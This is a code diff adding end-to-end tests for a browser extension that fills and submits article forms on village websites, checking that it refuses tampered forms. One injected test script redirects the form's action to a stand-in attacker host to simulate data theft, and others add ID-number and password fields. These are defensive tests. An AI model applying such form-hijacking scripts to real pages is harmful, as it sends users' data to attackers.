@@ -3,6 +3,7 @@ import { type ExtensionBrowser, openBrowser } from '#stack/browser.ts';
 import { type Market, startMarket } from '#stack/market.ts';
 import { LessonNote } from '#stack/pages/lessonNote.ts';
 import { Panel } from '#stack/pages/panel.ts';
+import { Popup } from '#stack/pages/popup.ts';
 import { picture } from '#stack/pictures.ts';
 import { settle } from '#stack/settle.ts';
 import type { VillageOptions } from '#tests/cms/doubles/village/axes.ts';
@@ -93,4 +94,131 @@ for (const [name, traits] of SITES)
     expect(added).toMatchObject({ title: 'Keripik singkong', isPublished: true });
     expect(site.foreignUntouched()).toBe(true);
     await expect(panel.frame.getByText('artikelnya sudah ada di situs desa')).toBeVisible();
+  });
+
+/** A Livewire site that was shown, and a second product that waits for "write now". */
+async function waiting(traits: Partial<VillageOptions> = {}): Promise<Panel> {
+  const page = await village({ flavour: 'driven', editor: 'textarea', ...traits });
+  await show(page, 'Gula semut', async () => undefined);
+  const panel = await sell(page, 'Keripik singkong');
+  await panel.frame.getByRole('button', { name: GO }).waitFor();
+  return panel;
+}
+
+/** What the page of the form does from now on, beside what it always did. */
+const changes = (script: string) =>
+  browser.context.addInitScript(
+    `addEventListener('DOMContentLoaded', () => { const form = document.querySelector('form'); if (document.querySelector('#judul')) { ${script} } })`,
+  );
+
+const saves = () => site.requests.filter(({ method, path }) => method === 'POST' && path.includes('/livewire/update'));
+
+test('“Berhenti” before the press: nothing is saved, and it waits again', async () => {
+  const panel = await waiting();
+  const before = saves().length;
+  const driven = await writeNow(panel);
+  const note = await LessonNote.on(driven);
+  await note.press('Berhenti');
+  await note.says('Dihentikan. Tidak ada yang disimpan');
+  await expect(panel.frame.getByText('Anda menghentikannya')).toBeVisible();
+  expect([saves().length - before, site.articles().length]).toEqual([0, 4]);
+
+  const again = await writeNow(panel);
+  await (await LessonNote.on(again)).says('Selesai. Artikelnya sudah terlihat');
+  expect(site.articles()).toHaveLength(5);
+});
+
+test('the tab is closed before the press: nothing is saved, and it waits again', async () => {
+  const panel = await waiting();
+  const before = saves().length;
+  const driven = await writeNow(panel);
+  await (await LessonNote.on(driven)).says('Dodolan mengisi formulir ini');
+  await driven.close();
+  await expect(panel.frame.getByText('Tabnya tertutup atau berpindah sebelum disimpan')).toBeVisible();
+  expect([saves().length - before, site.articles().length]).toEqual([0, 4]);
+});
+
+test('the site saves and its answer is lost: the article is found in public, and there is one', async () => {
+  const panel = await waiting();
+  site.failNext('drop_answer', 'save');
+  const driven = await writeNow(panel);
+  await (await LessonNote.on(driven)).says('Selesai. Artikelnya sudah terlihat');
+  expect(site.articles()).toHaveLength(5);
+});
+
+test('the site answers 500: the person looks first, and only their word and press try again', async () => {
+  const panel = await waiting();
+  site.failNext('500', 'save');
+  const before = saves().length;
+  const driven = await writeNow(panel);
+  await (await LessonNote.on(driven)).says('Tombolnya sudah ditekan, tetapi artikelnya belum terlihat');
+  await expect(panel.frame.getByText('Tidak jelas apakah artikel yang terakhir tersimpan')).toBeVisible();
+  await driven.close();
+  await panel.page.reload();
+  expect(saves().length - before).toBe(1);
+
+  const popup = await Popup.open(browser);
+  await popup.showListings();
+  await popup.page.getByRole('button', { name: 'Belum ada di sana' }).click();
+  const opened = browser.context.waitForEvent('page');
+  await popup.page.getByRole('button', { name: GO }).click();
+  await (await LessonNote.on(await opened)).says('Selesai. Artikelnya sudah terlihat');
+  expect([saves().length - before, site.articles().length]).toEqual([2, 5]);
+  expect(site.foreignUntouched()).toBe(true);
+});
+
+const CHANGED: [string, string, RegExp, RegExp][] = [
+  [
+    'asks for something more',
+    `form.insertAdjacentHTML('beforeend', '<label>NIK <input type="text" id="nik"></label>')`,
+    /berbeda dari yang pernah Anda tunjukkan/,
+    /Formulir artikel di situs desa berbeda/,
+  ],
+  [
+    'has a second button that says the same',
+    `form.insertAdjacentHTML('beforeend', '<button type="submit">Simpan</button>')`,
+    /dua tombol dengan tulisan yang sama/,
+    /ada dua tombol dengan tulisan yang sama/,
+  ],
+  [
+    'is sent to another host',
+    `form.setAttribute('action', 'https://jahat.example/ambil')`,
+    /dikirim ke alamat lain/,
+    /sekarang dikirim ke alamat lain/,
+  ],
+  [
+    'changes while it is filled in',
+    `document.querySelector('#judul').addEventListener('input', () => setTimeout(() => form.insertAdjacentHTML('beforeend', '<label>NIK <input type="text" id="nik"></label>'), 200))`,
+    /berbeda dari yang pernah Anda tunjukkan/,
+    /Formulir artikel di situs desa berbeda/,
+  ],
+  [
+    'holds words already',
+    `document.querySelector('#judul').value = 'Konsep Bu Carik'`,
+    /sudah berisi tulisan/,
+    /sudah berisi tulisan lain/,
+  ],
+  [
+    'takes out what is put in',
+    `setInterval(() => { document.querySelector('textarea').value = '' }, 100)`,
+    /tidak menerima sebagian isinya/,
+    /tidak menerima sebagian isinya/,
+  ],
+  [
+    'asks for a password',
+    `form.insertAdjacentHTML('beforeend', '<label>Sandi <input type="password" id="sandi"></label>')`,
+    /meminta masuk dulu|kata sandi/,
+    /kata sandi|sudah berakhir/,
+  ],
+];
+
+for (const [name, script, said, told] of CHANGED)
+  test(`a form that ${name} is not pressed, and the person is told why`, async () => {
+    const panel = await waiting();
+    const before = saves().length;
+    await changes(script);
+    const driven = await writeNow(panel);
+    await (await LessonNote.on(driven)).says(said);
+    await expect(panel.frame.getByText(told)).toBeVisible();
+    expect([saves().length - before, site.articles().length]).toEqual([0, 4]);
   });
